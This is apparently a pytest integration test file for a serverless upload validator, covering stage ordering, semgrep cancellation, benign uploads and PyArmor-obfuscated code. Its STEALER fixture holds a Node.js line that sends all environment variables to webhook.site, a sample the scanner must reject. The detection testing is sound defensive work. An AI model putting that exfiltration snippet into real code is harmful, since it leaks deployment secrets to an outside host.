"""The pipeline's stage order: static and manifests start with the entrypoint check, and
an entrypoint that fails leaves a report of that stage alone (real semgrep, real node)."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from sless.config import LLMSettings, ValidationSettings
from sless.validation.pipeline import Validator
from sless.validation.report import Verdict

pytestmark = pytest.mark.integration

#: reads the environment and sends it to a request catcher: a strong static finding
STEALER = (
    "const https = require('https');\n"
    "https.request({host: 'webhook.site', path: '/x', method: 'POST'})"
    ".end(JSON.stringify(process.env));\n"
)


def _semgrep_processes() -> set[int]:
    """semgrep processes that are children of this test process."""
    found = set()
    for stat_file in Path("/proc").glob("[0-9]*/stat"):
        try:
            name, rest = stat_file.read_text().rsplit(")", 1)
        except OSError:
            continue
        if int(rest.split()[1]) == os.getpid() and "semgrep" in name:
            found.add(int(stat_file.parent.name))
    return found


def _validator() -> Validator:
    return Validator(ValidationSettings(), LLMSettings())


async def _validate(directory: Path) -> tuple[Verdict, list[str], list[str]]:
    report = await _validator().validate_directory(
        directory, sha256="0" * 64, runtime="nodejs20", entrypoint="handler.handle"
    )
    rules = [f.rule for stage in report.stages for f in stage.findings]
    return report.verdict, [stage.name for stage in report.stages], rules


async def test_a_broken_entrypoint_reports_that_stage_alone(tmp_path: Path) -> None:
    (tmp_path / "handler.js").write_text("exports.handle = async (event) => {\n")
    (tmp_path / "steal.js").write_text(STEALER)
    verdict, stages, rules = await _validate(tmp_path)
    assert verdict is Verdict.REJECT
    assert stages == ["entrypoint"], "static and manifests were cancelled, not reported"
    assert rules == ["entrypoint-syntax-error"]
    await asyncio.sleep(0.1)
    assert _semgrep_processes() == set(), "the cancelled static stage left semgrep running"


async def test_a_good_entrypoint_gets_every_stage(tmp_path: Path) -> None:
    (tmp_path / "handler.js").write_text("exports.handle = async (event) => ({ ok: true });\n")
    (tmp_path / "steal.js").write_text(STEALER)
    verdict, stages, rules = await _validate(tmp_path)
    assert stages == ["entrypoint", "static", "manifest", "llm", "detonation"]
    assert verdict is Verdict.REJECT
    assert "js-env-exfiltration" in rules or "any-request-catcher-host" in rules, rules


async def test_a_benign_upload_is_allowed(tmp_path: Path) -> None:
    (tmp_path / "handler.js").write_text("exports.handle = async (event) => ({ ok: true });\n")
    verdict, stages, rules = await _validate(tmp_path)
    assert verdict is Verdict.ALLOW, rules
    assert stages == ["entrypoint", "static", "manifest", "llm", "detonation"]


async def test_code_hidden_by_pyarmor_is_held_by_guarddogs_rules(tmp_path: Path) -> None:
    # our own rules have nothing on a PyArmor-protected module: GuardDog's maintained
    # rules do, and a threat rule holds the upload for review
    (tmp_path / "handler.py").write_text("def handle(event):\n    return {'ok': True}\n")
    (tmp_path / "core.py").write_text(
        "from pyarmor_runtime import __pyarmor__\n"
        "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n"
    )
    report = await _validator().validate_directory(
        tmp_path, sha256="0" * 64, runtime="python3.11", entrypoint="handler.handle"
    )
    static = next(stage for stage in report.stages if stage.name == "static")
    assert static.versions == {"guarddog": "3.2.0"}
    held = [f for f in static.findings if f.rule.startswith("guarddog-threat-")]
    assert {(f.rule, f.file) for f in held} == {
        ("guarddog-threat-runtime-obfuscation-pyarmor", "core.py")
    }, static.findings
    assert {f.line for f in held} == {1, 2}
    assert static.verdict is Verdict.REVIEW
    assert report.verdict is not Verdict.ALLOW
